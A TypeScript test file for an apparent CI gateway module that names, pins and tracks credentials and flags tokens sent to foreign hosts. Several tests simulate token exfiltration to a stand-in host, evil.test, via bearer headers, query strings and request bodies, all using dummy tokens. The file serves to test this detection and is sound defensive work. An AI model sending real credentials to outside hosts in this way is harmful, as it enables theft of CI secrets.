import t from 'tap'
import type { RequestLook, SeenRequest } from '../../../gateway/insight/insight.ts'
import type { InsightPart } from '../../../gateway/insight/part.ts'
import { openPermissions } from '../../../gateway/permissions/open.ts'
import type { Alarm, FlowEvent } from '../../../gateway/record/event.ts'
import { parsePolicy } from '../../../gateway/policy/document-parse.ts'
import { fieldsOf, seen } from './seen.ts'

const own = `ghs_${'a1B2'.repeat(9)}`
const theirs = `ghp_${'Z9y8'.repeat(9)}`
const azure = 'eyJhbGciOiJub25lIn0.eyJqb2IiOiJhenVyZSJ9.c2ln'

interface Rig {
  readonly part: InsightPart
  readonly alarms: readonly Alarm[]
  look(request: SeenRequest): RequestLook | undefined
}

async function rig(tokens: string, environment: Readonly<Record<string, string>> = {}): Promise<Rig> {
  const alarms: Alarm[] = []
  const policy = parsePolicy(`version: 1\nmode: block\ntokens: ${tokens}\n`, 'policy.yaml', () => undefined)
  const part = await openPermissions({
    job: 'unit',
    policy: () => policy,
    cwd: '/',
    out: '/',
    procRoot: undefined,
    environment,
    alarm: alarm => alarms.push(alarm),
    write: () => undefined,
    closeNetwork: () => undefined,
    onWarning: () => undefined,
  })
  return { part, alarms, look: request => part.insight?.request?.(request) }
}

const bearer = (secret: string): Readonly<Record<string, string>> => ({ authorization: `Bearer ${secret}` })

/** The exchange of a request, with its bodies in pieces; the facts for its line. */
function exchange(
  look: RequestLook | undefined,
  {
    sent = '',
    status = 200,
    fields = {},
    received = '',
  }: { sent?: string; status?: number; fields?: Readonly<Record<string, string>>; received?: string | Buffer } = {},
): Partial<FlowEvent> {
  for (const part of pieces(Buffer.from(sent))) look?.sending?.(part)
  look?.answered?.(status, fieldsOf(fields))
  for (const part of pieces(Buffer.from(received))) look?.receiving?.(part)
  look?.received?.()
  return { ...look?.note, ...look?.ended?.() }
}

/** In pieces that are overwritten after each call, as the relay's are. */
function* pieces(bytes: Buffer): Generator<Buffer> {
  for (let at = 0; at < bytes.length; at += 7) {
    const piece = Buffer.from(bytes.subarray(at, at + 7))
    yield piece
    piece.fill(0)
  }
}

await t.test(
  'openPermissions(): one credential has one name, whatever it is sent as, and another job gives it another',
  async t => {
    const [first, second] = [await rig('{}'), await rig('{}')]
    const basic = { authorization: `Basic ${Buffer.from(`x:${own}`).toString('base64')}` }
    const names = [
      exchange(first.look(seen('GET https://api.github.com/user', bearer(own)))).token,
      exchange(first.look(seen('GET https://github.com/a/b.git/info/refs', basic))).token,
      exchange(first.look(seen('GET https://npm.acme.test/left', bearer(own)))).token,
    ]
    t.match(names[0], /^[0-9a-f]{16}$/)
    t.equal(new Set(names).size, 1)
    t.not(exchange(second.look(seen('GET https://api.github.com/user', bearer(own)))).token, names[0])
    t.not(exchange(first.look(seen('GET https://api.github.com/user', bearer(theirs)))).token, names[0])
  },
)

await t.test('openPermissions(): what carries no credential is not looked at', async t => {
  const { look } = await rig('{}')
  t.equal(look(seen('GET https://api.github.com/repos/a/b')), undefined)
  t.equal(look(seen('GET https://npm.acme.test/left')), undefined)
})

await t.test('openPermissions(): notes what the path does not say', async t => {
  const { look } = await rig('{}', { GITHUB_TOKEN: own, GITHUB_SERVER_URL: 'https://git.acme.test' })
  const details = (text: string, happens: Parameters<typeof exchange>[1] = {}): unknown =>
    exchange(look(seen(text, bearer(own))), happens).details
  t.same(details('GET https://github.com/a/b.git/info/refs?service=git-receive-pack'), {
    git: 'receive-pack',
    credential: 'GITHUB_TOKEN',
  })
  t.same(details('POST https://git.acme.test/a/b.git/info/lfs/objects/batch', { sent: '{"operation":"upload"}' }), {
    git: 'lfs-upload',
    credential: 'GITHUB_TOKEN',
    home: 'github',
  })
  t.match(
    details('POST https://api.github.com/graphql', { sent: '{"query":"mutation { addStar(input: {}) { id } }"}' }),
    { graphql: 'mutation addStar' },
  )
  t.match(details('POST https://api.github.com/graphql', { sent: 'x'.repeat(300_000) }), { graphql: 'unread' })
  const accepted = { 'x-accepted-github-permissions': 'contents=write,pages=read; issues=read' }
  t.match(details('GET https://api.github.com/x', { fields: accepted }), {
    accepted: 'contents=write,pages=read; issues=read',
  })
  for (const value of ['<b>', 'contents', `a=read,${'b'.repeat(300)}=read`])
    t.equal(
      Object.hasOwn(
        Object(details('GET https://api.github.com/x', { fields: { 'x-accepted-github-permissions': value } })),
        'accepted',
      ),
      false,
      'what is not of the form is not written',
    )
})

await t.test('openPermissions(): pin refuses at home what the job was not started with', async t => {
  const { look, alarms } = await rig('{ pin: true }', {
    GITHUB_TOKEN: own,
    SYSTEM_ACCESSTOKEN: azure,
    GIT_CONFIG_VALUE_0: `AUTHORIZATION: basic ${Buffer.from('pat:configured-pat').toString('base64')}`,
    PATH: '/usr/bin',
    NPM_TOKEN: 'npm-token-of-the-job',
  })
  const pinned = { reason: 'denied-by-rule', rule: 'tokens.pin' }
  for (const secret of [own, azure, 'configured-pat', 'npm-token-of-the-job'])
    t.equal(look(seen('GET https://api.github.com/user', bearer(secret)))?.objection, undefined, secret)
  t.same(look(seen('GET https://api.github.com/user', bearer(theirs)))?.objection, pinned)
  t.same(look(seen('GET https://dev.azure.com/x/_apis/projects', bearer('other-token')))?.objection, pinned)
  t.equal(
    look(seen('GET https://npm.acme.test/left', bearer('other-token')))?.objection,
    undefined,
    'only where tokens are at home',
  )
  t.equal(look(seen('GET https://api.github.com/user', bearer(theirs)))?.objection?.rule, 'tokens.pin')
  t.same(
    alarms.map(({ kind, host }) => [kind, host]),
    [
      ['token-abroad', 'api.github.com'],
      ['token-unpinned', 'api.github.com'],
      ['token-unpinned', 'dev.azure.com'],
    ],
    "each is told once; Azure's own token at GitHub is a finding too",
  )
})

await t.test('openPermissions(): what the job claims as its own is pinned from then on', async t => {
  const { look, part } = await rig('{ pin: true }')
  const asked = (secret: string) => look(seen('GET https://api.github.com/user', bearer(secret)))
  t.equal(asked(own)?.objection?.rule, 'tokens.pin', 'nothing is known yet')
  part.claimed?.({ GITHUB_TOKEN: own })
  t.equal(asked(own)?.objection, undefined)
  t.equal(asked(theirs)?.objection?.rule, 'tokens.pin')
})

await t.test('openPermissions(): what a registry hands out stands for what it was given', async t => {
  const { look } = await rig('{ pin: true }', { GITHUB_TOKEN: own })
  const asked = look(seen('GET https://ghcr.io/token?scope=x', bearer(own)))
  const { token } = exchange(asked, { received: '{"token":"handed-out-one"}' })
  const used = look(seen('PUT https://ghcr.io/v2/a/b/manifests/1', bearer('handed-out-one')))
  t.equal(used?.objection, undefined)
  t.equal(used?.note?.token, token)
  const form = 'grant_type=password&username=x&password='
  exchange(look(seen('POST https://ghcr.io/token')), {
    sent: `${form}${own}`,
    received: '{"access_token":"for-a-form"}',
  })
  t.equal(look(seen('PUT https://ghcr.io/v2/a/b/manifests/1', bearer('for-a-form')))?.note?.token, token)
  exchange(look(seen('POST https://ghcr.io/token')), { sent: `${form}${theirs}`, received: '{"token":"for-a-thief"}' })
  t.ok(
    look(seen('PUT https://ghcr.io/v2/a/b/manifests/1', bearer('for-a-thief')))?.objection,
    'not one that was bought with another',
  )
  for (const sent of [`{"password":"${theirs}"}`, `${'a=b&'.repeat(80_000)}password=${theirs}`, 'scope=x']) {
    exchange(look(seen('POST https://ghcr.io/token')), { sent, received: '{"token":"for-who-knows"}' })
    t.ok(look(seen('PUT https://ghcr.io/v2/a/b/manifests/1', bearer('for-who-knows')))?.objection, sent.slice(0, 10))
  }
  exchange(look(seen('POST https://ghcr.io/token', bearer(own))), {
    sent: `${form}${theirs}`,
    received: '{"token":"for-two"}',
  })
  t.ok(look(seen('PUT https://ghcr.io/v2/a/b/manifests/1', bearer('for-two')))?.objection, 'of two the stranger counts')
  exchange(look(seen('GET https://ghcr.io/token?scope=y')), { received: '{"token":"handed-to-anybody"}' })
  t.equal(
    look(seen('GET https://ghcr.io/v2/a/b/manifests/1', bearer('handed-to-anybody'))),
    undefined,
    'nobody is not refused',
  )
  const refused = look(seen('GET https://ghcr.io/token', bearer(own)))
  exchange(refused, { status: 403, received: '{"token":"not-given-away"}' })
  t.ok(
    look(seen('GET https://ghcr.io/v2/a/b/manifests/1', bearer('not-given-away')))?.objection,
    'an error hands out nothing',
  )
})

await t.test(
  'openPermissions(): what Git LFS and Azure DevOps hand out is pinned with what it was given for',
  async t => {
    const { look } = await rig('{ pin: true }', { SYSTEM_ACCESSTOKEN: azure })
    const batch = seen('POST https://dev.azure.com/a/b/_git/c/info/lfs/objects/batch', bearer(azure))
    const header = '{"objects":[{"actions":{"download":{"href":"x","header":{"Authorization":"Bearer lfs-bearer"}}}}]}'
    exchange(look(batch), { sent: '{"operation":"download"}', received: header })
    t.equal(look(seen('GET https://dev.azure.com/a/x', bearer('lfs-bearer')))?.objection, undefined)
    const session = seen('POST https://app.vssps.visualstudio.com/_apis/Token/SessionTokens', bearer(azure))
    exchange(look(session), { received: '{"token":"session-token"}' })
    t.equal(look(seen('GET https://pkgs.dev.azure.com/a/_packaging/f', bearer('session-token')))?.objection, undefined)
    exchange(look(session), { status: 203, received: '{"token":"of-a-sign-in-page"}' })
    t.ok(look(seen('GET https://pkgs.dev.azure.com/a/_packaging/f', bearer('of-a-sign-in-page')))?.objection)
  },
)

await t.test('openPermissions(): another credential beside a pinned one is refused', async t => {
  const { look } = await rig('{ pin: true }', { GITHUB_TOKEN: own })
  const request = (fields: Readonly<Record<string, string>>): RequestLook | undefined =>
    look(seen('POST https://github.com/settings', { ...bearer(own), ...fields }))
  t.equal(request({})?.objection, undefined)
  t.ok(request({ cookie: 'logged_in=yes; user_session=of-somebody-else' })?.objection, 'a session')
  t.ok(request({ 'x-api-key': 'of-somebody-else' })?.objection, 'a field')
  t.ok(
    request({ authorization: `Basic ${Buffer.from(`${theirs}:${own}`).toString('base64')}` })?.objection,
    'the user name',
  )
})

await t.test('openPermissions(): a token sent to where it is not at home is an alarm', async t => {
  const { look, alarms } = await rig('{}', { SYSTEM_ACCESSTOKEN: azure })
  look(seen('GET https://evil.test/', bearer(own)))
  look(seen(`GET https://evil.test/x?t=${theirs}`))
  look(seen('GET https://other.test/', { 'x-note': `here: ${own}` }, 'deny'))
  look(seen('GET https://evil.test/', bearer(azure)))
  look(seen('GET https://dev.azure.com/a/_apis/projects', bearer(own)))
  look(seen('GET https://evil.test/', bearer(own)))
  t.same(
    alarms.map(({ kind, host }) => [kind, host]),
    ['evil.test', 'evil.test', 'other.test', 'evil.test', 'dev.azure.com'].map(host => ['token-abroad', host]),
  )
  t.match(alarms[2]?.note, /refused/)
  t.ok(
    alarms.every(
      ({ note, subject = '' }) => ![own, theirs, azure].some(secret => `${note}${subject}`.includes(secret)),
    ),
  )
  t.ok(alarms.every(({ note }) => note.length <= 512))
})

await t.test('openPermissions(): a token in a body that goes abroad is an alarm, however it is cut', async t => {
  for (const padding of ['', 'x', 'xxxxx', 'y'.repeat(1_000)]) {
    const { look, alarms } = await rig('{}', { GITHUB_TOKEN: own })
    exchange(look(seen('POST https://evil.test/')), { sent: `${padding}${own}${padding}` })
    t.match(alarms, [{ kind: 'token-abroad', host: 'evil.test' }], `${padding.length} bytes before`)
    exchange(look(seen('POST https://other.test/')), { sent: `${padding}${own.slice(0, -1)}=${padding}` })
    exchange(look(seen('POST https://api.github.com/graphql', bearer(own))), { sent: own })
    t.equal(alarms.length, 1, 'not a part of it, and not at home')
  }
})

await t.test('openPermissions(): a token is at home where it was taken', async t => {
  const { look, alarms } = await rig('{}')
  look(seen('GET https://evil.test/', bearer('some-opaque-token')))
  t.same(alarms, [], 'nobody knows whose it is')
  exchange(look(seen('GET https://api.github.com/user', bearer('some-opaque-token'))), { status: 401 })
  look(seen('GET https://evil.test/', bearer('some-opaque-token')))
  t.same(alarms, [], 'and who refuses it does not tell')
  exchange(look(seen('GET https://api.github.com/user', bearer('some-opaque-token'))))
  look(seen('GET https://evil.test/', bearer('some-opaque-token')))
  t.same(
    alarms.map(({ kind }) => kind),
    ['token-abroad'],
  )
})

await t.test('openPermissions(): an ID token is meant to go abroad', async t => {
  const { look, alarms } = await rig('{}', { ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'eyJhbGciOiJub25lIn0.eyJhIjoxfQ.c2ln' })
  const asked = look(
    seen(
      'GET https://vstoken.actions.githubusercontent.com/_apis/idtoken',
      bearer('eyJhbGciOiJub25lIn0.eyJhIjoxfQ.c2ln'),
    ),
  )
  exchange(asked, { received: '{"value":"eyJhbGciOiJub25lIn0.eyJiIjoxfQ.c2ln"}' })
  look(seen('POST https://sts.example.com/', bearer('eyJhbGciOiJub25lIn0.eyJiIjoxfQ.c2ln')))
  t.same(alarms, [])
})
